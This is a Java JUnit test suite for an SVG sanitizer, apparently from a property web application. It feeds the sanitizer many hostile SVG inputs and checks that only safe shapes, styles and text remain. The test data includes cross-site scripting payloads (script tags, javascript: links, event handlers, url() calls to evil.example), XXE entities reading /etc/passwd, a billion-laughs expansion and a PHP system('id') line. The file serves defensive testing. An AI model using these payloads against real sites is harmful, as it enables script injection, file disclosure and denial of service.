package org.jointestate.web.estate.outbound;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertInstanceOf;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.List;
import java.util.Locale;
import java.util.Objects;
import java.util.stream.Stream;
import java.util.zip.GZIPOutputStream;
import javax.xml.stream.XMLInputFactory;
import javax.xml.stream.XMLStreamException;
import javax.xml.stream.XMLStreamReader;
import org.jointestate.domain.estate.plan.PictureCleaner;
import org.jointestate.domain.estate.plan.PictureCleaner.Cleaned;
import org.jointestate.domain.estate.plan.PictureCleaner.Why;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** What comes out of drawings that mean harm: nothing that could do any. */
class SvgCleanerTest {

    private static final Duration QUICK = Duration.ofSeconds(5);

    private final SvgCleaner cleaner = new SvgCleaner();

    private Cleaned clean(String svg) {
        return assertTimeoutPreemptively(QUICK, () -> cleaner.clean(svg.getBytes(StandardCharsets.UTF_8)));
    }

    /** In a drawing of a hundred by a hundred, beside something that can be seen. */
    private Cleaned.Clean inside(String content) {
        return assertInstanceOf(
                Cleaned.Clean.class,
                clean("<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'"
                        + " viewBox='0 0 100 100'>" + content + "<path d='M0 0h9'/></svg>"),
                content);
    }

    private void assertRefused(Why why, String svg) {
        assertEquals(why, assertInstanceOf(Cleaned.Refused.class, clean(svg)).why());
    }

    @Test
    void a_plain_drawing_keeps_its_shapes_looks_and_text() {
        var clean = inside(
                "<g fill='none' stroke='#1d1722' stroke-width='2' transform='translate(3 4) scale(1.5)'>"
                        + "<rect x='1' y='2' width='30%' height='40' rx='3'/><circle cx='5' cy='5' r='2.5'/>"
                        + "<polyline points='0,0 5,5 10,0' stroke-dasharray='4 2'/></g>"
                        + "<text x='9' y='9' font-size='12px' font-family='Arial, sans-serif'>Stairs &amp; <tspan>lift</tspan></text>");

        assertEquals(
                "<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 100 100\">"
                        + "<g fill=\"none\" stroke=\"#1d1722\" stroke-width=\"2\" transform=\"translate(3 4) scale(1.5)\">"
                        + "<rect x=\"1\" y=\"2\" width=\"30%\" height=\"40\" rx=\"3\"></rect>"
                        + "<circle cx=\"5\" cy=\"5\" r=\"2.5\"></circle>"
                        + "<polyline points=\"0,0 5,5 10,0\" stroke-dasharray=\"4 2\"></polyline></g>"
                        + "<text x=\"9\" y=\"9\" font-size=\"12px\" font-family=\"Arial, sans-serif\">Stairs &amp; "
                        + "<tspan>lift</tspan></text><path d=\"M0 0h9\"></path></svg>",
                clean.svg());
        assertEquals(List.of(), clean.leftOut());
    }

    @Test
    void the_style_sheet_of_a_drawing_program_becomes_attributes() {
        var clean =
                inside("<defs><style type='text/css'><![CDATA[ /* walls */ .cls-1, .cls-2 { fill:none; stroke:#000 }"
                        + " .cls-2{stroke-width:3px;marker-end:url(#arrow)} ]]></style></defs>"
                        + "<rect class='cls-1 cls-2' width='9' height='9' style='stroke:red;opacity:.5'/>");

        assertTrue(
                clean.svg()
                        .contains("<rect width=\"9\" height=\"9\" fill=\"none\" stroke=\"red\" stroke-width=\"3px\""
                                + " opacity=\".5\"></rect>"),
                clean.svg());
        assertFalse(clean.svg().contains("style"));
    }

    @Test
    void a_gradient_stays_and_is_referred_to_within_the_drawing_only() {
        var clean = inside("<defs><linearGradient id='sky' gradientUnits='userSpaceOnUse' x1='0' x2='9'>"
                + "<stop offset='0' style='stop-color:#fff'/><stop offset='100%' stop-color='rgb(1, 2, 3)'/>"
                + "</linearGradient></defs><rect id='sky2' width='9' height='9' fill='url(#sky)'/>"
                + "<rect width='9' height='9' fill='url(http://evil.example/#sky)'/>");

        assertTrue(clean.svg().contains("<linearGradient id=\"sky\""), clean.svg());
        assertTrue(clean.svg().contains("fill=\"url(#sky)\""), clean.svg());
        assertFalse(clean.svg().contains("evil"), clean.svg());
        assertFalse(clean.svg().contains("sky2"), clean.svg());
        assertEquals(List.of("fill"), clean.leftOut());
    }

    static Stream<String> hostile() {
        return Stream.of(
                "<script>alert(1)</script>",
                "<script xlink:href='https://evil.example/x.js'/>",
                "<script type='text/ecmascript'><![CDATA[alert(1)]]></script>",
                "<g><g><script>alert(1)</script></g></g>",
                "<defs><script>alert(1)</script></defs>",
                "<metadata><script>alert(1)</script></metadata>",
                "<unknown><script>alert(1)</script></unknown>",
                "<x:script xmlns:x='http://www.w3.org/2000/svg'>alert(1)</x:script>",
                "<script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script>",
                "<h:script xmlns:h='http://www.w3.org/1999/xhtml'>alert(1)</h:script>",
                "<iframe xmlns='http://www.w3.org/1999/xhtml' src='javascript:alert(1)'/>",
                "<rect width='9' height='9' onclick='alert(1)'/>",
                "<rect width='9' height='9' ONCLICK='alert(1)'/>",
                "<rect width='9' height='9' onload='alert(1)' onmouseover='alert(1)' onfocusin='alert(1)' tabindex='0'/>",
                "<g onbegin='alert(1)' onend='alert(1)' onrepeat='alert(1)'><rect width='9' height='9'/></g>",
                "<a xlink:href='javascript:alert(1)'><rect width='9' height='9'/></a>",
                "<a href='javascript:alert(1)'><text>press</text></a>",
                "<a href='java&#10;script:alert(1)'><text>press</text></a>",
                "<a href='&#106;avascript:alert(1)'><text>press</text></a>",
                "<a xlink:href='data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;'><rect width='9' height='9'/></a>",
                "<animate attributeName='href' values='javascript:alert(1)'/>",
                "<a id='l'><rect width='9' height='9'/></a><animate xlink:href='#l' attributeName='xlink:href' to='javascript:alert(1)'/>",
                "<set attributeName='onmouseover' to='alert(1)'/>",
                "<rect width='9' height='9'><set attributeName='href' to='javascript:alert(1)' begin='0s'/></rect>",
                "<animateTransform attributeName='transform' type='rotate' dur='0.01s' repeatCount='indefinite'/>",
                "<animateMotion path='M0 0' onbegin='alert(1)'/>",
                "<handler xmlns='http://www.w3.org/2001/xml-events' type='application/ecmascript'>alert(1)</handler>",
                "<listener xmlns='http://www.w3.org/2001/xml-events' event='load' handler='#x'/>",
                "<foreignObject width='9' height='9'><body xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></body></foreignObject>",
                "<foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml' src='https://evil.example'/></foreignObject>",
                "<foreignObject><form xmlns='http://www.w3.org/1999/xhtml' action='https://evil.example'/></foreignObject>",
                "<image xlink:href='https://evil.example/x.png' width='9' height='9'/>",
                "<image href='//evil.example/x.png' width='9' height='9'/>",
                "<image href='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+'/>",
                "<feImage xlink:href='https://evil.example/x'/>",
                "<filter id='f'><feImage href='https://evil.example/x'/></filter><rect width='9' height='9' filter='url(#f)'/>",
                "<use xlink:href='https://evil.example/x.svg#s'/>",
                "<use href='data:image/svg+xml,&lt;svg id=\"x\" onload=\"alert(1)\"/&gt;#x'/>",
                "<use href='#me' id='me'/>",
                "<style>@import url(https://evil.example/x.css);</style>",
                "<style>@font-face{font-family:x;src:url(https://evil.example/x.woff)}</style>",
                "<style>rect{fill:url(https://evil.example/x)}</style>",
                "<style>.a{fill:url('https://evil.example/x')}</style><rect class='a' width='9' height='9'/>",
                "<style>.a{behavior:url(x.htc);-moz-binding:url(x.xml#x)}</style><rect class='a' width='9' height='9'/>",
                "<style>.a{fill:expression(alert(1))}</style><rect class='a' width='9' height='9'/>",
                "<style>\\40 import 'https://evil.example';</style>",
                "<style>*{x:y}&lt;/style&gt;&lt;script&gt;alert(1)&lt;/script&gt;</style>",
                "<style><script>alert(1)</script></style>",
                "<rect width='9' height='9' style='background:url(https://evil.example/x)'/>",
                "<rect width='9' height='9' style='fill:url(&quot;https://evil.example/x&quot;)'/>",
                "<rect width='9' height='9' style='fill:u\\72l(https://evil.example/x)'/>",
                "<rect width='9' height='9' style='clip-path:url(https://evil.example/x#c);mask:url(//evil.example/m#m)'/>",
                "<rect width='9' height='9' fill='javascript:alert(1)'/>",
                "<rect width='9' height='9' fill='url(javascript:alert(1))'/>",
                "<rect width='9' height='9' fill='url(data:image/svg+xml,x)'/>",
                "<rect width='9' height='9' cursor='url(https://evil.example/c.cur)'/>",
                "<rect width='9' height='9' marker-end='url(https://evil.example/#m)'/>",
                "<linearGradient id='g' xlink:href='https://evil.example/x.svg#g'/>",
                "<linearGradient id='g' href='javascript:alert(1)'><stop offset='0'/></linearGradient>",
                "<pattern id='p' href='https://evil.example/x.svg#p'><rect width='9' height='9'/></pattern>",
                "<text><textPath href='https://evil.example/x.svg#p'>x</textPath></text>",
                "<text font-family='x&quot; onload=&quot;alert(1)'>x</text>",
                "<text x='1&quot; onload=&quot;alert(1)'>x</text>",
                "<title>&lt;script&gt;alert(1)&lt;/script&gt;</title>",
                "<text>&lt;script&gt;alert(1)&lt;/script&gt;</text>",
                "<text><![CDATA[</text><script>alert(1)</script>]]></text>",
                "<desc><script>alert(1)</script></desc>",
                "<switch><foreignObject requiredExtensions='x'><script>alert(1)</script></foreignObject></switch>",
                "<view id='v' viewBox='0 0 1 1' onload='alert(1)'/>",
                "<cursor id='c' xlink:href='https://evil.example/c.cur'/>",
                "<color-profile xlink:href='https://evil.example/p.icc'/>",
                "<font-face-uri xlink:href='https://evil.example/f.svg'/>",
                "<mpath xlink:href='https://evil.example/x.svg#p'/>",
                "<g xml:base='https://evil.example/'><path d='M0 0h1'/></g>",
                "<embed src='javascript:alert(1)'/>",
                "<video src='https://evil.example/x'/><audio src='https://evil.example/x' onerror='alert(1)'/>",
                "<svg onload='alert(1)'><rect width='9' height='9'/></svg>",
                "<svg><svg><svg onload='alert(1)'/></svg></svg>",
                "<path d='M0 0\"/&gt;&lt;script&gt;alert(1)&lt;/script&gt;'/>",
                "<path d='M0 0h1' transform='translate(1) url(https://evil.example)'/>",
                "<?xml-stylesheet href='https://evil.example/x.css' type='text/css'?>",
                "<?php system('id') ?>",
                "<!-- <script>alert(1)</script> --><rect width='9' height='9'/>");
    }

    @ParameterizedTest
    @MethodSource("hostile")
    void whatever_is_in_it_only_shapes_looks_and_text_come_out(String content) throws XMLStreamException {
        var svg = inside(content).svg();

        assertHarmless(svg);
        assertEquals(svg, assertInstanceOf(Cleaned.Clean.class, clean(svg)).svg(), "cleaned again it is the same");
    }

    private static final List<String> ELEMENTS = List.of(
            "svg",
            "g",
            "defs",
            "path",
            "rect",
            "circle",
            "ellipse",
            "line",
            "polyline",
            "polygon",
            "text",
            "tspan",
            "title",
            "desc",
            "linearGradient",
            "radialGradient",
            "stop");

    /** Judged anew with a list of its own, by a parser that sees what a browser would see. */
    private static void assertHarmless(String svg) throws XMLStreamException {
        var reader = XMLInputFactory.newDefaultFactory().createXMLStreamReader(new StringReader(svg));
        while (reader.hasNext()) {
            var event = reader.next();
            assertFalse(
                    event == XMLStreamReader.PROCESSING_INSTRUCTION || event == XMLStreamReader.DTD,
                    () -> "an instruction or a document type in " + svg);
            if (event != XMLStreamReader.START_ELEMENT) {
                continue;
            }
            assertTrue(ELEMENTS.contains(reader.getLocalName()), () -> reader.getLocalName() + " in " + svg);
            assertEquals("http://www.w3.org/2000/svg", reader.getNamespaceURI());
            for (int i = 0; i < reader.getAttributeCount(); i++) {
                var name = reader.getAttributeLocalName(i).toLowerCase(Locale.ROOT);
                var value = reader.getAttributeValue(i).toLowerCase(Locale.ROOT);
                assertTrue(
                        Objects.requireNonNullElse(reader.getAttributeNamespace(i), "")
                                .isEmpty(),
                        svg);
                assertFalse(
                        name.startsWith("on") || name.contains("href") || name.equals("style") || name.equals("src"),
                        svg);
                assertFalse(value.contains("script:") || value.contains("data:") || value.contains("//"), svg);
                assertTrue(!value.contains("url(") || value.startsWith("url(#"), svg);
            }
        }
    }

    @Test
    void what_was_left_out_is_told_once_in_plain_short_words() {
        var clean = inside("<script/><script/><image/><rect width='9' height='9' onclick='x'/>"
                + "<sodipodi:namedview xmlns:sodipodi='http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd'/>"
                + "<" + "x".repeat(200) + "/><böse/>");

        assertEquals(List.of("script", "image", "onclick", "x".repeat(24), "bse"), clean.leftOut());
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<!DOCTYPE svg PUBLIC '-//W3C//DTD SVG 1.1//EN' 'http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd'><svg/>",
                "<!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><svg viewBox='0 0 9 9'><text>&x;</text></svg>",
                "<!DOCTYPE svg [<!ENTITY % p SYSTEM 'http://evil.example/x.dtd'> %p;]><svg viewBox='0 0 9 9'/>",
                "<!DOCTYPE svg [<!ENTITY a 'lol'><!ENTITY b '&a;&a;&a;'>]><svg viewBox='0 0 9 9'><text>&b;</text></svg>",
                "<!DOCTYPE svg [<!ATTLIST svg onload CDATA 'alert(1)'>]><svg viewBox='0 0 9 9'/>",
                "<svg viewBox='0 0 9 9'><!-- <!DOCTYPE svg> --></svg>",
                "<svg viewBox='0 0 9 9'><![CDATA[<!ENTITY x 'y'>]]></svg>"
            })
    void a_document_type_is_refused_before_anything_of_it_is_read(String svg) {
        assertRefused(Why.DOCUMENT_TYPE, svg);
    }

    @Test
    void a_billion_laughs_are_not_begun() {
        var laughs = new StringBuilder("<!DOCTYPE svg [<!ENTITY l0 'lol'>");
        for (int i = 1; i < 30; i++) {
            laughs.append(
                    "<!ENTITY l%d '%s'>".formatted(i, "&l%d;".formatted(i - 1).repeat(10)));
        }

        assertRefused(Why.DOCUMENT_TYPE, laughs + "]><svg viewBox='0 0 9 9'><text>&l29;</text></svg>");
    }

    @Test
    void an_entity_that_nothing_declares_is_refused() {
        assertInstanceOf(
                Cleaned.Refused.class, clean("<svg viewBox='0 0 9 9'><text>&nbsp;&x;</text><path d='M0 0'/></svg>"));
    }

    @Test
    void a_million_nodes_are_refused_at_once_and_in_little_memory() {
        var million = "<svg viewBox='0 0 9 9'>" + "<g/>".repeat(1_000_000) + "</svg>";
        var fewerButTooMany = "<svg viewBox='0 0 9 9'>" + "<g/>".repeat(100_000) + "</svg>";
        var passedOver = "<svg viewBox='0 0 9 9'><metadata>" + "<g/>".repeat(100_000) + "</metadata></svg>";
        cleaner.clean(fewerButTooMany.getBytes(StandardCharsets.UTF_8));

        var before = System.nanoTime();
        assertRefused(Why.TOO_LARGE, million);
        assertRefused(Why.TOO_MANY_ELEMENTS, fewerButTooMany);
        assertRefused(Why.TOO_MANY_ELEMENTS, passedOver);

        assertTrue(System.nanoTime() - before < Duration.ofSeconds(2).toNanos());
    }

    @Test
    void nests_attributes_names_and_values_without_end_are_refused_or_left_out_quickly() {
        assertRefused(Why.TOO_DEEP, "<svg viewBox='0 0 9 9'>" + "<g>".repeat(50_000));
        assertRefused(Why.TOO_DEEP, "<svg viewBox='0 0 9 9'><metadata>" + "<g>".repeat(50_000));
        var attributes = new StringBuilder("<svg viewBox='0 0 9 9'><rect");
        for (int i = 0; i < 5_000; i++) {
            attributes.append(" a").append(i).append("=''");
        }
        assertRefused(Why.TOO_MANY_ATTRIBUTES, attributes + "/></svg>");
        var blanks = " ".repeat(400_000);
        assertFalse(inside("<g transform='translate(1)" + blanks + "x'/>").svg().contains("translate"));
        assertFalse(inside("<g fill='rgb(" + blanks + "'/>").svg().contains("rgb"));
        assertFalse(inside("<g style='fill:" + blanks + "x:y'/>").svg().contains("fill"));
        assertTrue(inside("<path d='M0 0" + "l1 1".repeat(90_000) + "'/>").svg().length() > 300_000);
    }

    @Test
    void a_style_rule_that_would_swell_every_element_is_bounded() {
        var family = "x".repeat(400);
        var swollen = "<svg viewBox='0 0 9 9'><style>.a{font-family:" + family + "}</style>"
                + "<path class='a' d='M0 0'/>".repeat(4_000) + "</svg>";

        assertRefused(Why.TOO_LARGE, swollen);
    }

    @Test
    void what_is_no_drawing_is_refused_with_its_reason() throws IOException {
        assertEquals(
                Why.EMPTY,
                assertInstanceOf(Cleaned.Refused.class, cleaner.clean(new byte[0]))
                        .why());
        assertRefused(Why.NOT_XML, "<svg viewBox='0 0 9 9'><g></svg>");
        assertRefused(Why.NOT_XML, "no drawing at all");
        assertRefused(Why.NOT_XML, "<svg viewBox='0 0 9 9'><x:path d='M0 0'/></svg>");
        assertRefused(Why.NOT_SVG, "<html xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></html>");
        assertRefused(Why.NOT_SVG, "<svg xmlns='http://www.w3.org/1999/xhtml' viewBox='0 0 9 9'/>");
        assertRefused(Why.NO_SIZE, "<svg><path d='M0 0'/></svg>");
        assertRefused(Why.NO_SIZE, "<svg viewBox='0 0 0 9'><path d='M0 0'/></svg>");
        assertRefused(Why.NO_SIZE, "<svg viewBox='0 0 1e9 1e9'><path d='M0 0'/></svg>");
        assertRefused(Why.NO_SIZE, "<svg width='100%' height='100%'><path d='M0 0'/></svg>");
        assertRefused(Why.NOTHING_TO_SEE, "<svg viewBox='0 0 9 9'><image href='x'/></svg>");
        var zipped = new java.io.ByteArrayOutputStream();
        try (var zip = new GZIPOutputStream(zipped)) {
            zip.write("<svg viewBox='0 0 9 9'/>".getBytes(StandardCharsets.UTF_8));
        }
        assertEquals(
                Why.NOT_UTF8,
                assertInstanceOf(Cleaned.Refused.class, cleaner.clean(zipped.toByteArray()))
                        .why());
        for (var charset : List.of(StandardCharsets.UTF_16LE, StandardCharsets.UTF_16)) {
            assertEquals(
                    Why.NOT_UTF8,
                    assertInstanceOf(
                                    Cleaned.Refused.class,
                                    cleaner.clean("<svg viewBox='0 0 9 9'><script>x</script></svg>".getBytes(charset)))
                            .why());
        }
    }

    @Test
    void an_encoding_that_the_file_claims_changes_nothing_about_how_it_is_read() {
        var claimed =
                "\uFEFF<?xml version='1.0' encoding='UTF-7'?><svg viewBox='0 0 9 9'><text>+ADw-script+AD4-</text></svg>";

        var svg = assertInstanceOf(Cleaned.Clean.class, clean(claimed)).svg();

        assertTrue(svg.contains("<text>+ADw-script+AD4-</text>"), svg);
    }

    @Test
    void a_width_and_a_height_are_enough_and_marks_that_turn_text_are_left_out() {
        var svg = assertInstanceOf(
                        Cleaned.Clean.class,
                        clean("<svg width='210mm' height='297mm' x='5' onload='x'><text>a\u202Eb\u2066c</text></svg>"))
                .svg();

        assertEquals("<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 210 297\"><text>abc</text></svg>", svg);
    }

    @Test
    void the_limit_is_the_one_that_the_page_names() {
        var padding = "x".repeat(PictureCleaner.MOST_BYTES);

        assertRefused(Why.TOO_LARGE, "<svg viewBox='0 0 9 9'><!--" + padding + "--></svg>");
    }
}
